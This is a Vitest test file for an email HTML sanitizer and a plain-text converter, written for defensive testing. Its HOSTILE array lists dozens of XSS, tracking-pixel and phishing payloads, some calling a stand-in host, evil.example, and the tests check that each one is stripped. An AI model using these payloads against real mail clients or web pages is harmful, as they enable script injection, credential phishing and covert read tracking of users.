import { describe, expect, it } from 'vitest';
import { cleanHtml } from './clean-html.mjs';
import { plainText } from './plain-text.mjs';

const clean = (html: string, images: Parameters<typeof cleanHtml>[1] = []): string =>
  cleanHtml(html, images)?.html ?? 'too long';
const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';

/** Ways that have been found to make mail programs run what a stranger wrote, or tell them that it was read. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="x">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="https://evil.example/t.gif 1x">',
  '<img src="https://evil.example/t.gif">',
  '<img src="//evil.example/t.gif">',
  '<img src="/logout">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/auth/logout">x</a>',
  '<a href="https://x.example" onclick="alert(1)" ping="https://evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/t.gif)}</style>',
  '<div style="background:url(https://evil.example/t.gif);position:fixed;inset:0">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<table background="https://evil.example/t.gif"><tr><td>x</td></tr></table>',
  '<video src="https://evil.example/v.mp4" onloadstart=alert(1)></video><audio src="https://evil.example/a"></audio>',
  '<input type="image" src="https://evil.example/t.gif">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--[if mso]><img src=x onerror=alert(1)><![endif]-->',
  '<p id="root" class="x" name="y">x</p>',
  '<body onload=alert(1) background="https://evil.example/t.gif">x</body>',
  '<a href="https://x.example" target="_top" rel="opener">x</a>',
];

describe('the HTML of a mail', () => {
  it.each(HOSTILE)('removes everything harmful from the HTML of a mail: %s', (html) => {
    for (const { tag, attributes } of elementsOf(clean(html))) {
      expect(tag).not.toMatch(
        /^(?:script|style|svg|math|iframe|object|embed|form|input|button|base|meta|link|video|audio|template|textarea|noscript|body|xmp)$/u,
      );
      for (const [name, value] of attributes) {
        expect(`${name}=${value}`).toMatch(
          /^(?:href=(?:https?:\/\/|mailto:|tel:)|src=data:image\/(?:png|jpeg|gif|webp);base64,|(?:target|rel|title|alt|width|height|align|valign|dir|lang|colspan|rowspan|start)=)/u,
        );
      }
    }
    expect(clean(html)).not.toMatch(/alert\(1\)(?![^<]*&gt;)|evil\.example/u);
  });

  it('keeps the harmless elements of a mail', () => {
    const letter =
      '<h2>Bonjour</h2><p>Le <strong>10 mars</strong><br />à <em>8 h</em></p><table><tr><td colspan="2" align="right">12,50</td></tr></table><ul><li>un</li></ul>';
    expect(clean(letter)).toBe(letter);
  });

  it('opens external links in a new tab and removes all others', () => {
    expect(clean('<a href="https://chu.example/plan?x=1&y=2">plan</a>')).toBe(
      '<a href="https://chu.example/plan?x=1&amp;y=2" target="_blank" rel="noopener noreferrer">plan</a>',
    );
    expect(clean('<a href="mailto:a@b.example">a</a> <a href="tel:+3225550123">t</a>')).toMatch(
      /href="mailto:a@b\.example".*href="tel:\+3225550123"/u,
    );
    expect(clean('<a href="ftp://x.example/y">y</a>')).toBe('<a>y</a>');
  });

  it('counts remote pictures, removes them and keeps their alternative text', () => {
    const result = cleanHtml(
      '<img src="https://x.example/a.png" alt="Plan du site"><img src="http://x.example/pixel.gif" width="1"><div style="background-image:url(\'https://x.example/b.png\')">x</div>',
      [],
    );
    expect(result).toEqual({ html: '<em>Plan du site</em><div>x</div>', blockedImages: 3 });
  });

  it('shows small pictures that came with the mail', () => {
    const content = Buffer.from('89504e47', 'hex');
    const images = [{ cid: 'logo@x', type: 'image/PNG', content }];
    expect(clean('<img src="cid:logo%40x" alt="Logo" width="80" height="1e9">', images)).toBe(
      `<img alt="Logo" width="80" src="data:image/png;base64,${content.toString('base64')}" />`,
    );
    expect(cleanHtml(`<img src="${pixel}">`, [])).toEqual({ html: `<img alt="" src="${pixel}" />`, blockedImages: 0 });
  });

  it('shows no picture that is too large, of another type, or missing', () => {
    const images = [
      { cid: 'large', type: 'image/png', content: Buffer.alloc(300_000) },
      { cid: 'drawing', type: 'image/svg+xml', content: Buffer.from('<svg onload="alert(1)"/>') },
    ];
    expect(clean('<img src="cid:large"><img src="cid:drawing"><img src="cid:gone" alt="gone">', images)).toBe(
      '<em>gone</em>',
    );
  });

  it('rejects HTML that would take long to clean', () => {
    expect(cleanHtml('x'.repeat(1_000_001), [])).toBeNull();
    for (const part of ['<div>', '</p>', '<', '&', '<!--'])
      expect([part, cleanHtml(part.repeat(15_001), [])]).toEqual([part, null]);
  });

  it('finds addresses in styles quickly', () => {
    const before = performance.now();
    const result = cleanHtml(`<p style="${`url(${' '.repeat(5000)}`.repeat(199)}url( '//x.example/a'">x</p>`, []);
    expect(result).toEqual({ html: '<p>x</p>', blockedImages: 1 });
    expect(performance.now() - before).toBeLessThan(1000);
  });

  it('limits the depth of nested elements', () => {
    expect(clean(`${'<div>'.repeat(1000)}deep`).match(/<div>/gu)?.length).toBeLessThanOrEqual(100);
  });
});

describe('plain text derived from the HTML of a mail', () => {
  it.each([
    [
      '<em>Salon</em><h2>Salon de mai</h2>Entrée gratuite<p>Merci</p><div><div><b>Lieu</b></div></div>',
      'Salon\nSalon de mai\nEntrée gratuite\nMerci\nLieu',
    ],
    ['<p>Bonjour,</p><p>À demain<br>8 h</p>', 'Bonjour,\nÀ demain\n8 h'],
    [
      '<table><tr><td>Date</td><td>10 mars</td></tr><tr><td>Heure</td><td>8 h</td></tr></table>',
      'Date 10 mars\nHeure 8 h',
    ],
    ['<p>5 &lt; 6 &amp;amp; "x"</p>', '5 < 6 &amp; "x"'],
    ['<script>alert(1)</script><style>p{}</style><p>  a\n  b </p>', 'a b'],
  ])('%j', (html, text) => {
    expect(plainText(clean(html))).toBe(text);
  });
});

/** Elements of cleaned HTML, which is well-formed: no browser is needed to read it. */
function elementsOf(html: string): { tag: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<([a-z0-9]+)((?:\s+[a-z-]+="[^"]*")*)\s*\/?>/giu)].map(([, tag = '', attributes = '']) => ({
    tag: tag.toLowerCase(),
    attributes: [...attributes.matchAll(/([a-z-]+)="([^"]*)"/giu)].map(
      ([, name = '', value = '']): [string, string] => [name.toLowerCase(), value],
    ),
  }));
}
